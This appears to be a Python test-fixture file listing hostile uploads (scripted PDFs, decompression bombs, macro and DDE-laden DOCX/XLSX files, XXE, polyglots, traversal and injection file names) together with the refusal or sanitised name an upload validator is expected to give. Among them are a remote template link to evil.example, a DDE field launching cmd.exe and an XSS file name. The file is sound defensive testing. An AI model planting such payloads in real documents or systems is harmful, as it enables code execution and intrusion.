"""Papers that somebody may want to attach to a case: pictures, PDFs, letters and workbooks that are not what they are called, or act."""

import struct
import zlib
from dataclasses import dataclass
from io import BytesIO

from pypdf import PdfWriter

from tests.evidence.hostile_archives import (
    EICAR,
    HTML,
    LOCKED,
    OLE,
    SVG,
    bad_checksum,
    flagged_locked,
    kind,
    link,
    lying_small,
    nul_in_name,
    overlapping,
)
from tests.evidence.hostile_books import HEAD, RELATIONS, book, comma, packed, parts
from tests.evidence.hostile_files import Hostile, Refused
from tests.evidence.hostile_parts import LAUGHS, OUTSIDE, in_utf16
from tests.support.papers import small_pdf

WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
RELS = "word/_rels/document.xml.rels"
WHOLE_PDF = small_pdf()
CATALOGUE = b"<< /Type /Catalog /Pages 2 0 R >>"


@dataclass(frozen=True)
class Kept:
    """Kept under this name and type, and handed out as a download only."""

    name: str
    media_type: str


def letter(**more: bytes) -> bytes:
    """An honest letter with further parts; `more` by place: document, rels, or any name."""
    document = (
        HEAD
        + f'<w:document xmlns:w="{WORD}"><w:body><w:p><w:r><w:t>合同</w:t></w:r></w:p></w:body></w:document>'.encode()
    )
    return packed({"[Content_Types].xml": HEAD + b"<Types/>", "word/document.xml": document} | more)


def linked(kind_of_link: str, target: str = "http://evil.example/a.dotm") -> bytes:
    """A letter with a link that acts when it is opened."""
    relation = f'<Relationships><Relationship Id="r1" Type="{RELATIONS}/{kind_of_link}" Target="{target}" TargetMode="External"/></Relationships>'
    return letter(**{RELS: HEAD + relation.encode()})


def field_of(words: str, padding: int = 0) -> bytes:
    """A letter with a field."""
    body = f'<w:document xmlns:w="{WORD}"><!--{" " * padding}--><w:r><w:instrText xml:space="preserve"> {words} </w:instrText></w:r></w:document>'
    return letter(**{"word/document.xml": HEAD + body.encode()})


def png(width: int = 1, height: int = 1) -> bytes:
    """A whole PNG that says this size."""

    def chunk(name: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))

    head = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + head + chunk(b"IDAT", zlib.compress(b"\0\0\0\0")) + chunk(b"IEND", b"")


def jpeg(width: int = 1, height: int = 1) -> bytes:
    """The marks of a whole JPEG that says this size."""
    frame = b"\xff\xc0\0\x11\x08" + struct.pack(">HH", height, width) + b"\x03\x01\x11\0\x02\x11\0\x03\x11\0"
    return b"\xff\xd8\xff\xe0\0\x10JFIF\0\x01\x01\0\0\x01\0\x01\0\0" + frame + b"\xff\xda\0\x02\0\xff\xd9"


def pdf_of(*objects: bytes) -> bytes:
    """A PDF of these objects, the first of which is its root; every place in its index is right."""
    body, index = b"%PDF-1.5\n", b"0000000000 65535 f \n"
    for number, each in enumerate(objects, 1):
        index += b"%010d 00000 n \n" % len(body)
        body += b"%d 0 obj\n%s\nendobj\n" % (number, each)
    count = len(objects) + 1
    tail = b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (count, len(body))
    return body + b"xref\n0 %d\n" % count + index + tail


def bomb_pdf() -> bytes:
    """A kilobyte whose index unpacks to 400 MB."""
    flood = zlib.compress(zlib.compress(b"\0" * 400_000_000, 9), 9)
    head = b"1 0 obj\n<< /Type /XRef /Size 9 /W [1 2 1] /Root 2 0 R /Filter [/FlateDecode /FlateDecode] /Length %d >>\nstream\n"
    return b"%PDF-1.5\n" + head % len(flood) + flood + b"\nendstream\nendobj\nstartxref\n9\n%%EOF\n"


def acting_pdf() -> bytes:
    """A page with a script that runs when it is opened."""
    root = b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>"
    return pdf_of(
        root,
        b"<< /Type /Pages /Count 1 /Kids [3 0 R] >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
    )


def pdf_under(password: str) -> bytes:
    """A page under a password; with an empty one, anybody may open it, and only the owner change it."""
    writer, out = PdfWriter(), BytesIO()
    writer.add_blank_page(595, 842)
    writer.encrypt(user_password=password, owner_password="of the owner", algorithm="AES-256")  # noqa: S106 - of an invented paper
    writer.write(out)
    return out.getvalue()


OTHER = Refused(("只收PDF、DOCX、XLSX、PNG、JPG", "另存"))
BROKEN = Refused(("已损坏", "重新保存"))
BARE = Refused(("一页也没有", "重新导出"))
SEALED = Refused(("加了打开密码", "去掉密码"))
HEAVY = Refused(("过于复杂", "重新扫描"))
ODD = Refused(("内部结构不对", "另存"))
LARGE = Refused(("展开后过大", "删去"))
MACRO = Refused(("带有宏", "不带宏"))
EMBEDDED = Refused(("嵌有程序或别的文件", "删去"))
LINKED = Refused(("连到别的文件或程序", "断开链接"))
DECLARED = Refused(("不该有的声明", "另存"))
HIDES = Refused(("藏着压缩包", "重新导出"))
PDF_TYPE, PNG_TYPE, JPEG_TYPE = "application/pdf", "image/png", "image/jpeg"
OFFICE = "application/vnd.openxmlformats-officedocument."
DOCX_TYPE, XLSX_TYPE = f"{OFFICE}wordprocessingml.document", f"{OFFICE}spreadsheetml.sheet"


def not_a(what: str) -> Refused:
    """Refused for not being what its name says."""
    return Refused((f"内容不是{what}文件", "另存"))


PAPERS: tuple[Hostile, ...] = (
    kind("pdf", "plain", "合同.pdf", WHOLE_PDF, Kept("合同.pdf", PDF_TYPE)),
    kind("pdf-script", "runs a script where somebody opens it", "合同.pdf", acting_pdf, Kept("合同.pdf", PDF_TYPE)),
    kind("pdf-page", "a page behind the mark of a PDF", "合同.pdf", b"%PDF-1.7\n" + HTML + b"\n%%EOF", BROKEN),
    kind("pdf-of-14-bytes", "the two marks and nothing between", "合同.pdf", b"%PDF-1.7\n%%EOF", BROKEN),
    kind("pdf-without-index", "a root that nothing leads to", "合同.pdf", b"%PDF-1.7\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n", BROKEN),
    kind("pdf-without-page", "no page, and says so", "合同.pdf", lambda: pdf_of(CATALOGUE, b"<< /Type /Pages /Count 0 /Kids [] >>"), BARE),
    kind("pdf-lying-pages", "five pages, of which there is none", "合同.pdf", lambda: pdf_of(CATALOGUE, b"<< /Type /Pages /Count 5 /Kids [] >>"), BARE),
    kind("pdf-circle", "pages that hold themselves", "合同.pdf", lambda: pdf_of(CATALOGUE, b"<< /Type /Pages /Count 1 /Kids [2 0 R] >>"), BROKEN),
    kind("pdf-brackets", "200,000 lists in one another", "合同.pdf", lambda: pdf_of(CATALOGUE, b"[" * 200_000 + b"]" * 200_000), HEAVY),
    kind("pdf-bomb", "400 MB in a kilobyte", "合同.pdf", bomb_pdf, BROKEN),
    kind("pdf-locked", "a password that is not known", "合同.pdf", lambda: pdf_under("secret"), SEALED),
    kind("pdf-owners", "anybody may open it, not everybody print", "合同.pdf", lambda: pdf_under(""), Kept("合同.pdf", PDF_TYPE)),
    kind("pdf-cut", "the connection broke", "合同.pdf", WHOLE_PDF[:40], BROKEN),
    kind("pdf-zip-polyglot", "an archive too", "合同.pdf", lambda: WHOLE_PDF + book(), HIDES),
    kind("zip-as-pdf", "an archive", "合同.pdf", book, not_a("PDF")),
    kind("html-as-pdf", "a page", "合同.pdf", HTML, not_a("PDF")),
    kind("eicar-as-pdf", "the test virus", "合同.pdf", EICAR, not_a("PDF")),
    kind("exe-as-pdf", "a program", "合同.pdf", b"MZ\x90\0", not_a("PDF")),
    kind("empty", "nothing", "合同.pdf", b"", Refused(("文件是空的", "重新选择"))),
    kind("one-byte", "cut at once", "合同.pdf", b"%", not_a("PDF")),
    kind("svg", "a picture that runs a script", "图.svg", SVG, OTHER),
    kind("svg-as-png", "the same, renamed", "图.png", SVG, not_a("PNG")),
    kind("html", "a page", "合同.html", HTML, OTHER),
    kind("php", "a page that a server would run", "合同.php", b"<?php", OTHER),
    kind("php-before-pdf", "two endings", "合同.php.pdf", WHOLE_PDF, Kept("合同.php.pdf", PDF_TYPE)),
    kind("pdf-before-exe", "two endings", "合同.pdf.exe", WHOLE_PDF, OTHER),
    kind("gif-html-polyglot", "a picture that is a page too", "图.png", b"GIF89a/*" + HTML, not_a("PNG")),
    kind("png", "plain", "图.png", png, Kept("图.png", PNG_TYPE)),
    kind("png-flood", "30,000 by 30,000 in 70 bytes", "图.png", lambda: png(30_000, 30_000), Refused(("像素", "缩小"))),
    kind("png-of-nothing", "no width", "图.png", lambda: png(0, 1), BROKEN),
    kind("png-cut", "the connection broke", "图.png", lambda: png()[:-6], BROKEN),
    kind("png-and-more", "a page behind a picture", "图.png", lambda: png() + HTML, BROKEN),
    kind("png-zip-polyglot", "an archive behind a picture", "图.png", lambda: png() + book(), HIDES),
    kind("jpg", "plain", "图.jpg", jpeg, Kept("图.jpg", JPEG_TYPE)),
    kind("jpg-flood", "65,000 by 65,000", "图.jpeg", lambda: jpeg(65_000, 65_000), Refused(("像素", "缩小"))),
    kind("jpg-cut", "the connection broke", "图.jpg", lambda: jpeg()[:30], BROKEN),
    kind("jpg-without-end", "the picture does not end", "图.jpg", lambda: jpeg()[:-2], BROKEN),
    kind("png-as-jpg", "another picture", "图.jpg", png, not_a("JPG")),
    kind("docx", "plain", "合同.docx", letter, Kept("合同.docx", DOCX_TYPE)),
    kind("xlsx", "plain", "明细.xlsx", book, Kept("明细.xlsx", XLSX_TYPE)),
    kind("docm", "a letter for macros", "合同.docm", letter, OTHER),
    kind("doc", "an old letter", "合同.doc", OLE, OTHER),
    kind("doc-as-docx", "an old or locked letter, renamed", "合同.docx", OLE + b"\0" * 600, Refused(("旧版", "去掉密码"))),
    kind("xlsx-as-docx", "a workbook renamed", "合同.docx", book, not_a("DOCX")),
    kind("csv-as-xlsx", "text renamed", "明细.xlsx", lambda: comma().encode(), not_a("XLSX")),
    kind("docx-macro", "a macro project", "合同.docx", lambda: letter(**{"word/vbaProject.bin": OLE}), MACRO),
    kind("xlsx-macro-sheet", "an Excel 4 macro sheet", "明细.xlsx", lambda: packed(parts() | {"xl/macrosheets/sheet1.xml": b"<a/>"}), MACRO),
    kind("docx-template", "fetches a template with macros", "合同.docx", lambda: linked("attachedTemplate"), LINKED),
    kind("docx-linked-object", "fetches an object", "合同.docx", lambda: linked("oleObject"), LINKED),
    kind("docx-frame", "fetches a page", "合同.docx", lambda: linked("frame"), LINKED),
    kind("docx-hyperlink", "a link that one may click", "合同.docx", lambda: linked("hyperlink", "http://example.com/"), Kept("合同.docx", DOCX_TYPE)),
    kind("docx-dde", "a field that starts a program", "合同.docx", lambda: field_of('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"'), LINKED),
    kind("docx-dde-on-border", "the same across two chunks", "合同.docx", lambda: field_of("DDEAUTO cmd", 1024 * 1024 - 170), LINKED),
    kind("docx-page-field", "a field that counts pages", "合同.docx", lambda: field_of("PAGE"), Kept("合同.docx", DOCX_TYPE)),
    kind("xlsx-dde", "a link that starts a program", "明细.xlsx", lambda: packed(parts() | {"xl/externalLinks/externalLink1.xml": b'<externalLink><ddeLink ddeService="cmd"/></externalLink>'}), LINKED),
    kind("docx-packed-file", "a file in an object", "合同.docx", lambda: letter(**{"word/embeddings/oleObject1.bin": OLE + b"\0" * 2_000 + "\x01Ole10Native".encode("utf-16-le")}), EMBEDDED),
    kind("docx-formula", "a formula of an old editor", "合同.docx", lambda: letter(**{"word/embeddings/oleObject1.bin": OLE + "Equation Native".encode("utf-16-le")}), Kept("合同.docx", DOCX_TYPE)),
    kind("docx-activex", "a control", "合同.docx", lambda: letter(**{"word/activeX/activeX1.xml": b"<a/>"}), EMBEDDED),
    kind("docx-program", "a program among the pictures", "合同.docx", lambda: letter(**{"word/media/image1.png": b"MZ\x90\0"}), EMBEDDED),
    kind("docx-script", "a script among the pictures", "合同.docx", lambda: letter(**{"word/media/run.vbs": b"a"}), EMBEDDED),
    kind("docx-xxe", "an entity that reads a file", "合同.docx", lambda: letter(**{"word/document.xml": HEAD + OUTSIDE + b"<a/>"}), DECLARED),
    kind("docx-laughs", "entities in entities", "合同.docx", lambda: letter(**{"word/styles.xml": HEAD + LAUGHS + b"<a/>"}), DECLARED),
    kind("docx-utf16", "a declaration in UTF-16", "合同.docx", lambda: letter(**{"word/styles.xml": in_utf16(HEAD + b"<a/>")}), DECLARED),
    kind("docx-bomb", "120 MB of blanks", "合同.docx", lambda: letter(**{"word/a.xml": b" " * 120_000_000}), LARGE),
    kind("xlsx-lying-bomb", "30 MB where 100 bytes are told", "明细.xlsx", lying_small, ODD),
    kind("xlsx-overlapping", "two parts share their bytes", "明细.xlsx", overlapping, ODD),
    kind("xlsx-nul", "a name that readers end differently", "明细.xlsx", nul_in_name, ODD),
    kind("xlsx-symlink", "a part that is a link", "明细.xlsx", link, ODD),
    kind("docx-climbing", "a part above the folder", "合同.docx", lambda: letter(**{"../../a.xml": b"<a/>"}), ODD),
    kind("xlsx-locked", "parts with a password", "明细.xlsx", flagged_locked, LOCKED),
    kind("xlsx-bad-checksum", "a byte has changed", "明细.xlsx", bad_checksum, BROKEN),
    kind("docx-cut", "the connection broke", "合同.docx", lambda: letter()[:200], BROKEN),
    kind("name-climbing", "a way out of the folder", "../../../etc/合同.pdf", WHOLE_PDF, Kept("合同.pdf", PDF_TYPE)),
    kind("name-backslash", "a way out on Windows", "..\\..\\合同.pdf", WHOLE_PDF, Kept("合同.pdf", PDF_TYPE)),
    kind("name-device", "a device of Windows", "CON.pdf", WHOLE_PDF, Kept("文件CON.pdf", PDF_TYPE)),
    kind("name-device-twice", "a device behind two endings", "nul.tar.pdf", WHOLE_PDF, Kept("文件nul.tar.pdf", PDF_TYPE)),
    kind("name-turned", "written from right to left", "合同\u202efdp.exe.pdf", WHOLE_PDF, Kept("合同fdp.exe.pdf", PDF_TYPE)),
    kind("name-nul", "a NUL", "合同\0.exe.pdf", WHOLE_PDF, Kept("合同.exe.pdf", PDF_TYPE)),
    kind("name-header", "a line end and a header", "合同\r\nX-Evil: 1\r\n.pdf", WHOLE_PDF, Kept("合同X-Evil 1.pdf", PDF_TYPE)),
    kind("name-long", "300 signs", "长" * 300 + ".pdf", WHOLE_PDF, Kept("长" * 116 + ".pdf", PDF_TYPE)),
    kind("name-script", "a script", "<img src=x onerror=alert(1)>.pdf", WHOLE_PDF, Kept("img src=x onerror=alert(1).pdf", PDF_TYPE)),
    kind("name-stream", "a stream of Windows", "合同.exe:a.pdf", WHOLE_PDF, Kept("合同.exea.pdf", PDF_TYPE)),
)  # fmt: skip
